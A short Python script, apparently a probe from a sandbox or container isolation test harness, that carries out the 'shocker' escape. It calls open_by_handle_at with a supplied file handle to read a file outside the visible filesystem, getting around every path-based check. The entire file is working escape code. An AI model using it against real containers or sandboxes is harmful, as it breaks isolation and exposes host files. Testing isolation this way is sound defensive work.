"""A file outside the view by its handle (inode and generation), which goes around every path: the escape known as shocker."""
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
OPEN_BY_HANDLE_AT = {"x86_64": 304, "aarch64": 265}[platform.machine()]
kind, _, bytes_hex = os.environ["HANDLE"].partition(":")
data = bytes.fromhex(bytes_hex)
handle = len(data).to_bytes(4, "little") + int(kind).to_bytes(4, "little") + data
for place in [".", os.environ["DISPATCH_WORK"], os.environ["DISPATCH_LOG_DIR"], "/usr"]:
    try:
        mount = os.open(place, os.O_RDONLY)
    except OSError:
        continue
    file = libc.syscall(OPEN_BY_HANDLE_AT, mount, handle, os.O_RDONLY)
    if file >= 0:
        print(os.read(file, 200).decode())
print("TRIED")
